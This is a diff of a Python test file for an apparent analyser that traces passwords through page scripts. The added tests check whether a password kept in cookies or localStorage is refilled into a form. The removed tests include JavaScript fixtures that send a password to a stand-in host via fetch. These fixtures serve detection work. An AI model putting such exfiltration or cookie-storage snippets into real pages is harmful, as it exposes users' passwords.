@@ -1,15 +1,10 @@
-"""Names that have a password."""
+"""The results of calls of the browser and of libraries: members of objects, and values of stores."""
 
 from __future__ import annotations
 
 import pytest
 
 from tests.client_scripts.test_script_analysis import TAKEN, analysed, channels
-
-
-def test_a_password_is_followed_over_names() -> None:
-    assert channels(TAKEN + 'a = p; b = "x" + a; fetch("//a.example", b);')
-    assert not channels(TAKEN + 'a = p.length > 3; b = "x"; fetch("//a.example", b);')
 
 
 @pytest.mark.parametrize(
@@ -35,15 +30,37 @@ def test_members_of_an_object_are_told_apart(code: str, is_sent: bool) -> None:
     assert bool(channels(TAKEN + code)) is is_sent
 
 
+_KEPT = 'document.cookie = "p=" + document.getElementById("pw").value;'
+
+
 @pytest.mark.parametrize(
-    ("code", "key"),
+    "script",
     [
-        ('fetch("/x", "z9=" + p);', "z9"),
-        ('fetch("/x?a=1&Z9=" + encodeURIComponent(p));', "z9"),
-        ('fetch("/x", { z9: p });', "z9"),
-        ('form.append("z9", p);', "z9"),
-        ('fetch("/x", \'{"z9":"\' + p);', "z9"),
+        'document.getElementById("pw").value = localStorage.getItem("p");',
+        'document.getElementById("pw").value = getCookie("p");',
+        'var known = getCookie("p"); document.getElementById("pw").value = known;',
+        '$("#pw").val(localStorage.p);',
+        'document.getElementById("pw").value = document.cookie.split("=")[1];',
     ],
 )
-def test_the_name_under_which_a_password_is_sent(code: str, key: str) -> None:
-    assert key in analysed(TAKEN + code).fields
+def test_a_stored_password_that_is_entered_again_is_remembered(script: str) -> None:
+    assert analysed(_KEPT + script).remembers
+
+
+@pytest.mark.parametrize(
+    "script",
+    [
+        "",
+        'document.getElementById("pw").value = "";',
+        'document.getElementById("user").value = getCookie("p");',
+        'var known = getCookie("p"); document.getElementById("pw").value = other;',
+        'if (document.getElementById("pw").value == getCookie("p")) { go(); }',
+        'x = $("#pw").val(); y = getCookie("p");',
+    ],
+)
+def test_a_password_that_is_only_stored_is_not_remembered(script: str) -> None:
+    assert not analysed(_KEPT + script).remembers
+
+
+def test_a_page_that_stores_nothing_is_not_asked() -> None:
+    assert not analysed('document.getElementById("pw").value = getCookie("p");').remembers
